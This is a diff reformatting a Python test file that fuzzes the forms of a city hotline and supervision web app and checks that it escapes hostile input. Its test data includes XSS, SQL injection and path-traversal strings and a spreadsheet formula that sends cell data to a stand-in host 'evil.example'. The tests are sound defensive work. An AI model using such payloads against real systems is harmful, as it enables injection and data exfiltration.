@@ -21,8 +21,27 @@ from tests.web.test_operator_pages import CALL
 
 junk = st.one_of(
     st.text(max_size=60),
-    st.sampled_from(["", " ", "0", "-1", "2025-13-45", "9999-12-31", "<script>alert(1)</script>", "' OR 1=1 --",
-                     "%", "_", "\x00", "字" * 3000, "HBJ", "CGJ,HBJ", "=1+1", "2025-10", "../../etc/passwd"]),
+    st.sampled_from(
+        [
+            "",
+            " ",
+            "0",
+            "-1",
+            "2025-13-45",
+            "9999-12-31",
+            "<script>alert(1)</script>",
+            "' OR 1=1 --",
+            "%",
+            "_",
+            "\x00",
+            "字" * 3000,
+            "HBJ",
+            "CGJ,HBJ",
+            "=1+1",
+            "2025-10",
+            "../../etc/passwd",
+        ]
+    ),
 )
 FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 REFERENCE = "市长批示〔2025〕9号"
@@ -44,35 +63,62 @@ def admin_desk(signed_in):  # noqa: F811
 
 @pytest.fixture
 def desks(signed_in, web_services):  # noqa: F811
-    web_services.app.register_instruction(REFERENCE, SUPERVISOR_ACTOR, leader="张市长", content="整治噪音",
-                                          lead_department="HBJ", cooperating_departments=["CGJ"],
-                                          due=date.today() + timedelta(days=60))
+    web_services.app.register_instruction(
+        REFERENCE,
+        SUPERVISOR_ACTOR,
+        leader="张市长",
+        content="整治噪音",
+        lead_department="HBJ",
+        cooperating_departments=["CGJ"],
+        due=date.today() + timedelta(days=60),
+    )
     return {who: signed_in(who) for who in ("hbj", "supervisor")}
 
 
 @FUZZ
-@given(data=st.dictionaries(st.sampled_from(["reference_no", "leader", "content", "lead_department", "cooperating",
-                                             "due"]), junk, max_size=6))
+@given(
+    data=st.dictionaries(
+        st.sampled_from(["reference_no", "leader", "content", "lead_department", "cooperating", "due"]),
+        junk,
+        max_size=6,
+    )
+)
 def test_the_register_form(desks, web_services, data):  # noqa: F811
     before = stored_events(web_services)
-    good = {"reference_no": "批示-1", "leader": "李副市长", "content": "落实", "lead_department": "HBJ",
-            "due": (date.today() + timedelta(days=30)).isoformat()}
+    good = {
+        "reference_no": "批示-1",
+        "leader": "李副市长",
+        "content": "落实",
+        "lead_department": "HBJ",
+        "due": (date.today() + timedelta(days=30)).isoformat(),
+    }
     response = desks["supervisor"].post("/supervisor/ledger/new", {**good, **data})
     assert response.status_code in (302, 400), response.status_code
     if response.status_code == 400:
         assert stored_events(web_services) == before  # nothing stored from a rejected form
 
 
-ITEM_FIELDS = {"progress": ["content"], "feedback": ["month", "content"], "complete": ["summary"], "urge": ["note"],
-               "due": ["due", "reason"], "verify": ["note"], "reopen": ["reason"]}
+ITEM_FIELDS = {
+    "progress": ["content"],
+    "feedback": ["month", "content"],
+    "complete": ["summary"],
+    "urge": ["note"],
+    "due": ["due", "reason"],
+    "verify": ["note"],
+    "reopen": ["reason"],
+}
 
 
 @FUZZ
-@given(action=st.sampled_from(sorted(ITEM_FIELDS)), values=st.lists(junk, min_size=2, max_size=2), version=junk,
-       who=st.sampled_from(["hbj", "supervisor"]))
+@given(
+    action=st.sampled_from(sorted(ITEM_FIELDS)),
+    values=st.lists(junk, min_size=2, max_size=2),
+    version=junk,
+    who=st.sampled_from(["hbj", "supervisor"]),
+)
 def test_every_supervision_item_action(desks, web_services, action, values, version, who):  # noqa: F811
     page = f"/supervision/items/{REFERENCE}"
-    data = {f"{action}-{name}": value for name, value in zip(ITEM_FIELDS[action], values)}
+    data = {f"{action}-{name}": value for name, value in zip(ITEM_FIELDS[action], values, strict=False)}
     data[f"{action}-version"] = version
     before = stored_events(web_services)
     response = desks[who].post(f"{page}/do/{action}", data, token_from=page)
@@ -84,8 +130,9 @@ def test_every_supervision_item_action(desks, web_services, action, values, vers
 @FUZZ
 @given(data=st.dictionaries(st.sampled_from(["escalate-due", "escalate-content", "escalate-version"]), junk))
 def test_the_escalation_form(desks, web_services, data):  # noqa: F811
-    ticket = web_services.app.open_case(Call(**{k: CALL[k] for k in ("channel", "category", "service_code",
-                                                                       "description")}), OPERATOR_ACTOR).ticket_no
+    ticket = web_services.app.open_case(
+        Call(**{k: CALL[k] for k in ("channel", "category", "service_code", "description")}), OPERATOR_ACTOR
+    ).ticket_no
     before = stored_events(web_services)
     response = desks["supervisor"].post(f"/cases/{ticket}/escalate", data, token_from=f"/cases/{ticket}")
     assert response.status_code == 302
@@ -119,8 +166,10 @@ def test_oversized_bodies_are_refused_with_413(signed_in, web_services, app):  #
     assert response.status_code == 413 and "内容过大" in response.text
     key = web_services.app.issue_api_key("测试", SYSTEM_ACTOR).key
     client = app.test_client()
-    response = client.post("/open311/v2/requests.json", data={
-        "api_key": key, "service_code": "noise", "description": huge, "address_string": "解放路 1 号"})
+    response = client.post(
+        "/open311/v2/requests.json",
+        data={"api_key": key, "service_code": "noise", "description": huge, "address_string": "解放路 1 号"},
+    )
     assert response.status_code == 413 and response.json[0]["code"] == 413
     response = client.post("/open311/v2/requests.xml", data={"api_key": key, "description": huge})
     assert response.status_code == 413 and b"<code>413</code>" in response.data
@@ -130,8 +179,9 @@ def test_oversized_bodies_are_refused_with_413(signed_in, web_services, app):  #
 def test_sql_in_search_fields_is_only_text(services):
     hotline, models = services.app, services.read_models
     for description in ("噪音 100% 超标", "噪音_夜间", "普通噪音投诉", "O'Brien 的店铺 ' OR 1=1 --"):
-        hotline.open_case(Call(channel="phone", category="complaint", service_code="noise", description=description),
-                      OPERATOR_ACTOR)
+        hotline.open_case(
+            Call(channel="phone", category="complaint", service_code="noise", description=description), OPERATOR_ACTOR
+        )
     models.catch_up()
 
     def found(text):
@@ -163,11 +213,21 @@ def test_html_in_descriptions_is_escaped_in_pages(signed_in, web_services):  # n
     operator, supervisor = signed_in("operator"), signed_in("supervisor")
     response = operator.post("/calls/new", {**CALL, "description": SCRIPT, "address": SCRIPT, "caller_name": "<b>x"})
     ticket = response.headers["Location"].rsplit("/", 1)[1]
-    web_services.app.register_instruction("批示<script>", SUPERVISOR_ACTOR, leader="<script>x", content=SCRIPT,
-                                          lead_department="HBJ", due=date.today() + timedelta(days=9))
-    pages = [operator.get(f"/cases/{ticket}").text, operator.get("/cases", query_string={"q": "script"}).text,
-             supervisor.get(f"/audit/cases/{ticket}").text, supervisor.get("/supervisor/ledger").text,
-             supervisor.get("/supervision/items/批示<script>").text]
+    web_services.app.register_instruction(
+        "批示<script>",
+        SUPERVISOR_ACTOR,
+        leader="<script>x",
+        content=SCRIPT,
+        lead_department="HBJ",
+        due=date.today() + timedelta(days=9),
+    )
+    pages = [
+        operator.get(f"/cases/{ticket}").text,
+        operator.get("/cases", query_string={"q": "script"}).text,
+        supervisor.get(f"/audit/cases/{ticket}").text,
+        supervisor.get("/supervisor/ledger").text,
+        supervisor.get("/supervision/items/批示<script>").text,
+    ]
     for page in pages:
         assert "<script>alert" not in page and "<img src=x" not in page and "<b>x" not in page
     assert "&lt;script&gt;alert" in pages[0] and "&lt;script&gt;alert" in pages[3]
@@ -176,8 +236,14 @@ def test_html_in_descriptions_is_escaped_in_pages(signed_in, web_services):  # n
 def test_formulas_in_the_ledger_export_stay_text(signed_in, web_services):  # noqa: F811
     attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "=1+1"]
     for number, text in enumerate(attacks):
-        web_services.app.register_instruction(f"批示-{number}", SUPERVISOR_ACTOR, leader=text, content=text,
-                                              lead_department="HBJ", due=date.today() + timedelta(days=9))
+        web_services.app.register_instruction(
+            f"批示-{number}",
+            SUPERVISOR_ACTOR,
+            leader=text,
+            content=text,
+            lead_department="HBJ",
+            due=date.today() + timedelta(days=9),
+        )
     month = date.today().strftime("%Y-%m")
     response = signed_in("supervisor").get("/supervisor/ledger.xlsx", query_string={"month": month})
     assert response.status_code == 200
@@ -203,9 +269,9 @@ FUZZED_POSTS = {
 
 
 def test_every_form_and_action_is_fuzzed(app):  # noqa: F811
-    from tests.web.test_fuzz_forms import ACTION_FIELDS
     from hotline.web.views.cases import ACTIONS
     from hotline.web.views.supervision import ITEM_ACTIONS
+    from tests.web.test_fuzz_forms import ACTION_FIELDS
 
     posts = {rule.rule for rule in app.url_map.iter_rules() if "POST" in rule.methods}
     assert posts == set(FUZZED_POSTS), posts ^ set(FUZZED_POSTS)
@@ -217,12 +283,17 @@ DECISION_FIELDS = {"approve_extension": [], "reject_extension": ["reason"]}
 
 
 @FUZZ
-@given(action=st.sampled_from(sorted(DECISION_FIELDS)), reason=junk, version=junk,
-       who=st.sampled_from(["hbj", "supervisor"]))
+@given(
+    action=st.sampled_from(sorted(DECISION_FIELDS)),
+    reason=junk,
+    version=junk,
+    who=st.sampled_from(["hbj", "supervisor"]),
+)
 def test_the_extension_decisions(desks, web_services, action, reason, version, who):  # noqa: F811
     hotline = web_services.app
-    ticket = hotline.open_case(Call(channel="phone", category="complaint", service_code="noise", description="噪音"),
-                           OPERATOR_ACTOR).ticket_no
+    ticket = hotline.open_case(
+        Call(channel="phone", category="complaint", service_code="noise", description="噪音"), OPERATOR_ACTOR
+    ).ticket_no
     from tests.conftest import department
 
     hotline.dispatch(ticket, OPERATOR_ACTOR, department="HBJ")
@@ -238,13 +309,36 @@ def test_the_extension_decisions(desks, web_services, action, reason, version, w
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(params=st.dictionaries(st.sampled_from(["q", "ticket", "phone", "status", "department", "page", "month",
-                                                "at", "kind", "source", "service_code", "next"]), junk, max_size=4),
-       index=st.integers(min_value=0))
+@given(
+    params=st.dictionaries(
+        st.sampled_from(
+            [
+                "q",
+                "ticket",
+                "phone",
+                "status",
+                "department",
+                "page",
+                "month",
+                "at",
+                "kind",
+                "source",
+                "service_code",
+                "next",
+            ]
+        ),
+        junk,
+        max_size=4,
+    ),
+    index=st.integers(min_value=0),
+)
 def test_query_strings_on_every_page(admin_desk, app, params, index):  # noqa: F811
     admin = admin_desk
-    pages = sorted(rule.rule for rule in app.url_map.iter_rules()
-                   if "GET" in rule.methods and not rule.rule.startswith(("/open311", "/static")))
+    pages = sorted(
+        rule.rule
+        for rule in app.url_map.iter_rules()
+        if "GET" in rule.methods and not rule.rule.startswith(("/open311", "/static"))
+    )
     path = pages[index % len(pages)]
     path = path.replace("<ticket_no>", "20250101-000001").replace("<path:reference_no>", "批示-1")
     response = admin.get(path, query_string=params)
